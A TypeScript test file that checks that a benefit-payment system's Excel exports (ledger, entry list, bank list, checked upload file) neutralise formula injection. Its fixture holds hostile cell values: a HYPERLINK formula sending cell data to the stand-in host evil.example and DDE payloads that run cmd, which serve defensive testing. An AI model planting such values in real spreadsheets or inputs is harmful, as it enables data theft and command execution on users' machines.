import { randomBytes } from 'node:crypto';
import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { FieldCipher } from '../../src/adapters/crypto/field-cipher.ts';
import { buildBankList } from '../../src/adapters/files/bank-files.ts';
import { writeEntryListXlsx, writeLedgerXlsx } from '../../src/adapters/files/ledger-xlsx.ts';
import { buildCheckedFile, parseSheet } from '../../src/adapters/files/nomination-sheet.ts';
import { exportEntryList } from '../../src/usecases/report/entry.ts';
import { exportLedger } from '../../src/usecases/report/ledger.ts';
import { useTestDatabase } from '../support/test-db.ts';
import { makeCard, makeId, seedCampaign, seedContact } from '../support/fixtures.ts';

// Finding 9 (issue 12): free text that starts like a formula (= + - @, also after a TAB or CR) must not
// reach a finance clerk's Excel as a formula. Every export is written and read back: no cell is a
// formula, and no text cell starts with a formula character.

const { db } = useTestDatabase();
const cipher = new FieldCipher([{ version: 1, key: randomBytes(32) }]);
let campaignId: number;
const HOSTILE = {
  employer: '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
  description: "+1+cmd|' /C calc'!A0",
  bankName: "@SUM(1+1)*cmd|' /C calc'!A0",
  fullName: '-2+3',
};

beforeAll(async () => {
  const c = await seedCampaign(db, {
    code: 'formula',
    categories: [{ code: 'needy', kind: 'needy_worker', nameZh: '困难职工', amountYuan: 1000 }],
  });
  campaignId = c.id;
  const contact = await seedContact(db, 660_001, '\t=公式工会');
  const id = makeId('19800101', 3);
  const card = makeCard();
  await db.nomination.create({
    data: {
      campaignId,
      categoryId: c.categories[0]!.id,
      unionId: contact.union.id,
      submittedById: contact.person.id,
      status: 'paid',
      ...HOSTILE,
      idNumberEnc: cipher.encrypt(id),
      idNumberHash: cipher.hash('id', id),
      bankCardEnc: cipher.encrypt(card),
      bankCardLast4: card.slice(-4),
      amountFen: 100_000,
      benefitForm: 'transfer',
      submittedAt: new Date(),
    },
  });
});

async function toBuffer(write: (out: PassThrough) => Promise<unknown>): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const ended = new Promise((r) => out.on('end', r));
  await write(out);
  await ended;
  return Buffer.concat(chunks);
}

/** Every cell of every sheet: formulas, and text starting with a formula character. */
async function dangerousCells(buf: Buffer): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  const bad: string[] = [];
  let texts = 0;
  for (const ws of wb.worksheets)
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) bad.push(`${cell.address}: formula ${cell.formula}`);
        if (typeof cell.value === 'string') {
          texts++;
          if (/^[=+\-@\t\r]/.test(cell.value)) bad.push(`${cell.address}: ${cell.value}`);
        }
      }),
    );
  expect(texts).toBeGreaterThan(0);
  return bad;
}

describe('formula-like text in every export', () => {
  it('ledger (full and masked), entry list, bank list, checked upload file', async () => {
    const files: [string, Buffer][] = [];
    for (const access of ['full', 'masked'] as const)
      files.push([
        `ledger ${access}`,
        await toBuffer((out) =>
          exportLedger(db, cipher, {
            campaignId,
            access,
            actorId: 1,
            sink: (pages) =>
              writeLedgerXlsx(out, pages, { locale: 'zh-CN', title: '=台账', masked: access === 'masked' }),
          }),
        ),
      ]);
    files.push([
      'entry list',
      await toBuffer((out) =>
        exportEntryList(db, cipher, {
          campaignId,
          actorId: 1,
          sink: (pages) => writeEntryListXlsx(out, pages, { locale: 'zh-CN', title: '录入清单' }),
        }),
      ),
    ]);
    files.push([
      'bank list',
      await buildBankList({
        code: 'PB-1',
        locale: 'zh-CN',
        totalFen: 100_000n,
        rows: [
          {
            ref: 1,
            nominationId: 1,
            name: HOSTILE.fullName,
            card: '**** 1234',
            bank: HOSTILE.bankName,
            amountFen: 100_000,
          },
        ],
      }),
    ]);
    files.push([
      'checked upload file',
      await buildCheckedFile({
        locale: 'zh-CN',
        columns: ['name', 'employer'],
        headerLine: 1,
        rows: [
          {
            line: 2,
            values: { name: HOSTILE.fullName, employer: HOSTILE.employer },
            problems: '',
            warnings: '',
          },
        ],
      }),
    ]);
    for (const [what, buf] of files) expect(await dangerousCells(buf), what).toEqual([]);
    // The text itself survives (with its apostrophe), and the checked file reads back as typed.
    const checked = await parseSheet(files.at(-1)![1], 'checked.xlsx');
    expect(checked.ok && checked.rows[0]!.values.employer).toBe(HOSTILE.employer);
  });
});
